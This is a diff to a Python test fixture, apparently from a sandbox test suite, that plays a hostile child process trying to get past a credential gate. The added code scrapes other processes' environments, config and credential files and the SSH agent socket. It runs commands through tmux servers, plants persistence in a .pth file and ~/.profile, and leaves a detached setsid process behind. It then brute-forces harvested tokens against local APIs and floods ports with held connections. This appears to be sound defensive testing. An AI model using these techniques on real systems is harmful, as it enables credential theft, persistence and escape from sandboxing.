@@ -1,13 +1,20 @@
-"""A child that tries everything an unprivileged process of the operator's user could to get past the
-gate: `python hostile.py look REPORT API_URL QUEUE_URL CONFIG_DIR SOCKET CREDENTIAL_FILE`.
+"""A child that has read how the sandbox is built, and tries everything a process of the operator's
+user could to get past the gate: `python hostile.py look SPEC` (SPEC is JSON, see `look`).
 
-It reads the environment and command line of every process it can see in /proc (its ancestors among
-them), every file under the reviewer's configuration folder, the credential's file and the agent socket,
-then sends a write straight to the API and asks the queue who it is, with every token-like word it
-found. It writes what it saw and what answered to REPORT (JSON). Standard library only.
+It reads the environment and command line of every process /proc shows (its ancestors among them),
+the reviewer's configuration folder, the credential's file and the agent socket; sends commands to the
+operator's tmux servers and reads their environment; plants a `.pth` in the reviewer's site-packages
+and a line in `~/.profile`; leaves a `setsid` process behind; then sends a write straight to the API
+and asks the queue who it is with every token-like word it found. It writes what it saw, did and what
+answered to the report (JSON). Standard library only.
 
-`wait PORT_FILE GO` writes the gate's port (not its secret) and waits on the FIFO GO; `intrude GATE` is
-another user trying the gate at that port without the secret, printing each answer's status.
+`intrude SPEC` is a second local user, run while the child calls the gate: it reads every
+`/proc/*/cmdline` and `environ`, tries every URL and token-like word it found, connects to every Unix
+socket and holds as many connections as it can to every TCP port the operator listens on; it prints
+`holding` and keeps them until its stdin closes, then prints its report.
+
+`wait PORT_FILE GO` writes the gate's port (not its secret) and waits on the FIFO GO; `intrude-port
+GATE` is another user trying the gate at that port without the secret, printing each answer's status.
 """
 
 from __future__ import annotations
@@ -16,14 +23,18 @@ import json
 import os
 import re
 import socket
+import subprocess
 import sys
 import urllib.error
 import urllib.parse
 import urllib.request
 from pathlib import Path
+from typing import Any
 
 TOKEN_LIKE = re.compile(rb"[A-Za-z0-9_\-.~+/]{12,}")
+URL_LIKE = re.compile(r"https?://[^\s\"'\\,]+")
 MAX_TRIES = 400
+HOLD_PER_PORT = 100
 
 
 def read(path: Path) -> bytes:
@@ -58,7 +69,7 @@ def agent_socket(path: str) -> str:
             connection.settimeout(5)
             connection.connect(path)
             connection.sendall(b"\0\0\0\1\x0b")  # SSH_AGENTC_REQUEST_IDENTITIES
-            return connection.recv(4096).hex()
+            return connection.recv(65536).hex()
     except OSError as error:
         return f"<{type(error).__name__}>"
 
@@ -75,18 +86,64 @@ def status_with(url: str, method: str, word: str, body: object = None) -> int:
             return int(response.status)
     except urllib.error.HTTPError as error:
         return int(error.code)
-    except OSError:
+    except (OSError, ValueError):
         return 0
 
 
-def look(report_path: str, api: str, queue: str, config: str, agent: str, credential_file: str) -> None:
-    seen = {
+def tmux(socket_path: str, *arguments: str) -> str:
+    """What the tmux server at `socket_path` answers, or why it does not."""
+    try:
+        done = subprocess.run(
+            ["tmux", "-S", socket_path, *arguments], capture_output=True, text=True, timeout=20
+        )
+    except (OSError, subprocess.TimeoutExpired) as error:
+        return f"<{type(error).__name__}>"
+    return f"{done.returncode}: {done.stdout}{done.stderr}"
+
+
+def plant(path: str, line: str) -> str:
+    """Append `line` to `path`; what happened."""
+    try:
+        with open(path, "a") as planted:
+            planted.write(line + "\n")
+        return "written"
+    except OSError as error:
+        return f"<{type(error).__name__}: {error.strerror}>"
+
+
+def through_gate(title: str) -> int:
+    return status_with(os.environ["REVIEWER_API_URL"] + "/v1/tickets", "POST", "none", {"title": title})
+
+
+def look(spec_text: str) -> None:
+    spec: dict[str, Any] = json.loads(spec_text)
+    seen: dict[str, Any] = {
         "environ": dict(os.environ),
         "processes": processes(),
-        "config": files_under(Path(config)),
-        "credential_file": read(Path(credential_file)).decode("utf-8", "replace"),
-        "agent_socket": agent_socket(agent),
+        "config": files_under(Path(spec["config"])),
+        "credential_file": read(Path(spec["credential_file"])).decode("utf-8", "replace"),
+        "agent_socket": agent_socket(spec["agent_socket"]),
+        "tmux": {
+            path: [
+                tmux(path, "run-shell", f"touch {spec['tmux_proof']}"),
+                tmux(path, "show-environment", "-g"),
+                tmux(path, "capture-pane", "-p"),
+            ]
+            for path in spec.get("tmux_sockets", [])
+        },
     }
+    done = {
+        "planted": {path: plant(path, spec["plant_line"]) for path in spec.get("plant", [])},
+    }
+    if spec.get("leftover"):
+        # setsid, as a daemon would: a session and process group of its own, its parent gone.
+        subprocess.Popen(
+            ["setsid", "sh", "-c", f"exec python3 -c 'import time; time.sleep(3600)' {spec['leftover']}"],
+            stdin=subprocess.DEVNULL,
+            stdout=subprocess.DEVNULL,
+            stderr=subprocess.DEVNULL,
+        )
+    api, queue = spec["api"], spec["queue"]
     words = sorted({word.decode() for word in TOKEN_LIKE.findall(json.dumps(seen).encode())} - {api, queue})[
         :MAX_TRIES
     ]
@@ -94,11 +151,110 @@ def look(report_path: str, api: str, queue: str, config: str, agent: str, creden
         "api": [
             word
             for word in words
-            if status_with(f"{api}/v1/tickets/t3", "PATCH", word, {"status": "closed"}) < 400
+            if 0 < status_with(f"{api}/v1/tickets/t3", "PATCH", word, {"status": "closed"}) < 400
         ],
         "queue": [word for word in words if status_with(f"{queue}/v1/whoami", "GET", word) == 200],
     }
-    Path(report_path).write_text(json.dumps({"seen": seen, "words": words, "accepted": accepted}))
+    # The host's loopback services and the network: does anything answer at all (0: no connection)?
+    reached = {
+        "api": status_with(f"{api}/v1/tickets", "GET", "none"),
+        "queue": status_with(queue, "GET", "none"),
+    }
+    gate: list[int] = []
+    if spec.get("ready"):
+        gate.append(through_gate("child call 1"))
+        Path(spec["ready"]).write_text("ready")  # a FIFO: the test holds it open for reading
+        with open(spec["go"]) as released:
+            released.read()
+        gate.append(through_gate("child call 2"))
+    report = {
+        "seen": seen,
+        "done": done,
+        "words": words,
+        "accepted": accepted,
+        "reached": reached,
+        "gate": gate,
+    }
+    Path(spec["report"]).write_text(json.dumps(report))
+
+
+def listening_ports(uid: int) -> list[tuple[str, int]]:
+    """The loopback TCP ports `uid` listens on, from /proc/net/tcp (every user may read it)."""
+    found: list[tuple[str, int]] = []
+    for table, host in (("/proc/net/tcp", "127.0.0.1"), ("/proc/net/tcp6", "::1")):
+        for line in read(Path(table)).decode(errors="replace").splitlines()[1:]:
+            fields = line.split()
+            if len(fields) > 7 and fields[3] == "0A" and int(fields[7]) == uid:
+                found.append((host, int(fields[1].rsplit(":", 1)[1], 16)))
+    return found
+
+
+def unix_sockets() -> list[str]:
+    lines = read(Path("/proc/net/unix")).decode(errors="replace").splitlines()[1:]
+    return sorted({line.split(None, 7)[7] for line in lines if len(line.split(None, 7)) == 8} - {""})
+
+
+def connects(path: str) -> bool:
+    try:
+        with socket.socket(socket.AF_UNIX) as connection:
+            connection.settimeout(2)
+            connection.connect(path if not path.startswith("@") else "\0" + path[1:])
+            return True
+    except OSError:
+        return False
+
+
+def owner(pid: str) -> int | None:
+    try:
+        return os.stat(f"/proc/{pid}").st_uid
+    except OSError:
+        return None
+
+
+def intrude(spec_text: str) -> None:
+    spec: dict[str, Any] = json.loads(spec_text)
+    operator = int(spec["operator_uid"])
+    seen = processes()
+    # What the operator's processes show is what it tries (other users' are not this attack's).
+    text = json.dumps({pid: shown for pid, shown in seen.items() if owner(pid) == operator})
+    words = sorted({word.decode() for word in TOKEN_LIKE.findall(text.encode())})[:MAX_TRIES]
+    urls = sorted(set(URL_LIKE.findall(text)))
+    ports = listening_ports(operator)
+    held: list[socket.socket] = []
+    for host, port in ports:
+        for _ in range(HOLD_PER_PORT):
+            try:
+                held.append(socket.create_connection((host, port), timeout=2))
+            except OSError:
+                break
+    sockets = [path for path in unix_sockets() if connects(path)]
+    operators_sockets = []
+    for path in sockets:
+        try:
+            if os.stat(path).st_uid == operator:
+                operators_sockets.append(path)
+        except OSError:
+            continue
+    targets = [*urls, *(f"http://{host}:{port}" for host, port in ports)]
+    accepted = [
+        f"{target} {word}"
+        for target in targets
+        for word in words[:50]
+        if 0 < status_with(f"{target}/v1/tickets", "POST", word, {"title": "second user"}) < 400
+    ]
+    print("holding", flush=True)
+    sys.stdin.read()
+    report = {
+        "seen": seen,
+        "urls": urls,
+        "operator_ports": ports,
+        "held": len(held),
+        "operator_sockets": operators_sockets,
+        "accepted": accepted,
+    }
+    for connection in held:
+        connection.close()
+    print(json.dumps(report), flush=True)
 
 
 def wait(port_file: str, go: str) -> None:
@@ -107,11 +263,11 @@ def wait(port_file: str, go: str) -> None:
         released.read()
 
 
-def intrude(gate: str) -> None:
+def intrude_port(gate: str) -> None:
     for method, path in [("POST", "/v1/tickets"), ("GET", "/v1/tickets"), ("POST", "/x/v1/tickets")]:
         print(status_with(gate + path, method, "guess", {} if method == "POST" else None))
 
 
 if __name__ == "__main__":
     mode, *arguments = sys.argv[1:]
-    {"look": look, "wait": wait, "intrude": intrude}[mode](*arguments)
+    {"look": look, "intrude": intrude, "wait": wait, "intrude-port": intrude_port}[mode](*arguments)
